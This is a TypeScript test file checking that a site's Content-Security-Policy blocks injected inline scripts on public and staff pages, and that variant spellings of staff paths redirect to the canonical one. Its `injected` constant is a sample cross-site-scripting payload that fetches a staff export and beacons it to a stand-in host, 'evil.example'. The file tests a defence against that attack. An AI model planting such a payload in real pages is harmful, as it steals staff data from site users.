import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { banglaFontScript } from "../../app/lib/bangla-font.ts";
import { themeScript } from "../../app/lib/theme-script.ts";
import { pagePolicy, publicPagePolicy, staffPagePolicy } from "./page-policy.ts";
import { scriptHash } from "../http/security-headers.ts";
import { loadStaticFiles } from "../http/static-files.ts";
import { createSiteApp } from "../site-app.ts";
import { routelessBuild } from "../../tests/support/routeless-build.ts";

/*
 * A page's Content-Security-Policy allows only the inline scripts the app writes itself, whatever
 * else its HTML holds: a <script> that reached a page (a lead's text on a staff page, markup in an
 * article) must not run. Checked on the policies, then through the real request listener, for a
 * prerendered file and for pages React Router renders (public and staff).
 */
const injected = "fetch('/staff/export').then((r) => r.text()).then((t) => navigator.sendBeacon('//evil.example', t))";

/** The script-src sources of a policy. */
const scriptSources = (policy: string) =>
  (policy.split("; ").find((directive) => directive.startsWith("script-src ")) ?? "").split(" ").slice(1);

/** Whether a browser would run `body` as an inline script under `policy`. */
const runsInline = (policy: string, body: string) =>
  scriptSources(policy).some((source) => source === "'unsafe-inline'" || source === scriptHash(body));

/** A page as an attacker would like it: the app's own font script, and one more. */
const hostilePage = `<!doctype html><html lang="bn"><head><script>${banglaFontScript()}</script></head>
<body><p>Lead text</p><script>${injected}</script></body></html>`;

describe("the pages' Content-Security-Policy", () => {
  it("lets staff pages run the site's own files and no inline script at all", () => {
    expect(scriptSources(staffPagePolicy)).toEqual(["'self'"]);
    expect(pagePolicy("/staff")).toBe(staffPagePolicy);
    expect(pagePolicy("/staff/messages/12")).toBe(staffPagePolicy);
    expect(pagePolicy("/staff/content/preview")).toBe(staffPagePolicy);
  });

  it("lets public pages run the app's own inline scripts (the theme, the font loader), and nothing else inline", () => {
    expect(scriptSources(publicPagePolicy)).toEqual([
      "'self'",
      scriptHash(themeScript()),
      scriptHash(banglaFontScript()),
    ]);
    expect(runsInline(publicPagePolicy, themeScript())).toBe(true);
    expect(runsInline(publicPagePolicy, banglaFontScript())).toBe(true);
    expect(runsInline(publicPagePolicy, injected)).toBe(false);
    // A Preview is a public page rendered with the drafts: its theme script must run.
    for (const path of ["/", "/bn/contact-us", "/staffing", "/no-such-page", "/staff/content/preview/bn/contact-us"])
      expect(pagePolicy(path)).toBe(publicPagePolicy);
  });
});

describe("an injected inline script, served by the site", () => {
  let server: Server;
  let base: string;

  beforeAll(async () => {
    const client = mkdtempSync(join(tmpdir(), "page-policy-"));
    mkdirSync(join(client, "bn"));
    writeFileSync(join(client, "bn", "index.html"), hostilePage);
    // Every path React Router answers (a 404 here: there are no routes) is the hostile page.
    const build = routelessBuild((_request, status, headers) => {
      headers.set("Content-Type", "text/html; charset=utf-8");
      return new Response(hostilePage, { status, headers });
    });
    // Nothing here reaches the store, the form or the counter's storage.
    const services = {
      analytics: { count() {} },
      staff: { connection: { get: async () => undefined } },
      health: async () => ({ ok: true }),
    } as unknown as Parameters<typeof createSiteApp>[0]["services"];
    const app = createSiteApp({ build, staticFiles: loadStaticFiles(client, publicPagePolicy), services });
    server = createServer(app);
    await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((done) => server.close(() => done())));

  const policyOf = async (path: string) => {
    const response = await fetch(`${base}${path}`);
    expect(await response.text()).toContain(injected);
    return response.headers.get("Content-Security-Policy") ?? "";
  };

  it("does not run on a prerendered page, whose font script does", async () => {
    const policy = await policyOf("/bn");
    expect(policy).toBe(publicPagePolicy);
    expect(runsInline(policy, banglaFontScript())).toBe(true);
    expect(runsInline(policy, injected)).toBe(false);
  });

  it("does not run on a public page rendered per request", async () => {
    const policy = await policyOf("/bn/no-such-page");
    expect(policy).toBe(publicPagePolicy);
    expect(runsInline(policy, injected)).toBe(false);
  });

  it("does not run on a staff page, whose script-src is exactly 'self'", async () => {
    const policy = await policyOf("/staff/messages/1");
    expect(scriptSources(policy)).toEqual(["'self'"]);
    expect(runsInline(policy, injected)).toBe(false);
    expect(runsInline(policy, banglaFontScript())).toBe(false);
  });
});

describe("the staff area's one spelling", () => {
  let server: Server;
  let base: string;
  beforeAll(async () => {
    const build = routelessBuild((_request, status, headers) => {
      headers.set("Content-Type", "text/html; charset=utf-8");
      return new Response(hostilePage, { status, headers });
    });
    const services = {
      analytics: { count() {} },
      staff: { connection: { get: async () => undefined }, config: { origin: "http://127.0.0.1" } },
      health: async () => ({ ok: true }),
    } as unknown as Parameters<typeof createSiteApp>[0]["services"];
    server = createServer(createSiteApp({ build, staticFiles: new Map(), services }));
    await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((done) => server.close(() => done())));

  it("redirects another spelling of a staff path to /staff/… before anything reads it, a POST too", async () => {
    const spellings = {
      "/STAFF/people": "/staff/people",
      "/Staff": "/staff",
      "/%73taff/people?tab=roles": "/staff/people?tab=roles",
      "/%53TAFF/content/images": "/staff/content/images",
    };
    for (const [path, canonical] of Object.entries(spellings)) {
      for (const method of ["GET", "POST"]) {
        const response = await fetch(`${base}${path}`, {
          method,
          redirect: "manual",
          body: method === "POST" ? "x" : undefined,
        });
        expect([path, method, response.status, response.headers.get("Location")]).toEqual([
          path,
          method,
          308,
          canonical,
        ]);
        // Never the public policy, whose inline hashes a staff page must not have.
        expect(response.headers.get("Content-Security-Policy")).not.toContain("sha256-");
      }
    }
    // A neighbour is not the staff area.
    expect((await fetch(`${base}/STAFFING`, { redirect: "manual" })).status).toBe(404);
  });
});
